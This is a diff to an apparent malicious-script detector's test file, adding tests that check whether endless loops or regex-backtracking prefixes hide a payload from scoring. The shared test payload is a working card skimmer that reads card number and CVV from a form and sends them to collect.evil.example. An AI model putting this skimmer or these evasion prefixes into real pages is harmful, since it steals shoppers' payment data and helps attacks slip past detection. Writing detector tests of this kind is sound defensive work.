@@ -357,13 +357,24 @@ test.each([
   expect((user + system) / 1e6).toBeLessThan(MAX_SECONDS)
 })
 
+const CARD_SKIMMER = `document.querySelector('form').addEventListener('submit',function(){var n=document.querySelector('#card_number').value,c=document.querySelector('#cvv').value;new Image().src='https://collect.evil.example/g.php?d='+btoa(n+'|'+c)})`
+
 test.each([
   ['match', `'${'a'.repeat(250_000)}'.match(/a+b/);`],
   ['replace', `'${'a'.repeat(250_000)}'.replace(/a*b/g,'');`],
   ['split', `'${'a'.repeat(250_000)}'.split(/a+$/);`],
 ])('a pattern that scans its text again and again hides nothing: %s', (_, pattern) => {
-  const skimmer = `document.querySelector('form').addEventListener('submit',function(){var n=document.querySelector('#card_number').value,c=document.querySelector('#cvv').value;new Image().src='https://collect.evil.example/g.php?d='+btoa(n+'|'+c)})`
-  const { scores } = scoreScript(pattern + skimmer)
+  const { scores } = scoreScript(pattern + CARD_SKIMMER)
+  expect(scores?.js_integrity_score).toBeLessThan(MALICIOUS_BELOW)
+})
+
+test.each([
+  ['one endless loop', 'for(;;){}'],
+  ['two endless loops', 'for(;;){}for(;;){}'],
+  ['eight endless loops', 'for(;;){}'.repeat(8)],
+  ['many calls, and an endless loop', 'var a=[];for(var i=0;i<20000;i++)a.push(i);for(;;){}'],
+])('statements that take all steps hide nothing behind them: %s', (_, before) => {
+  const { scores } = scoreScript(before + CARD_SKIMMER)
   expect(scores?.js_integrity_score).toBeLessThan(MALICIOUS_BELOW)
 })
 
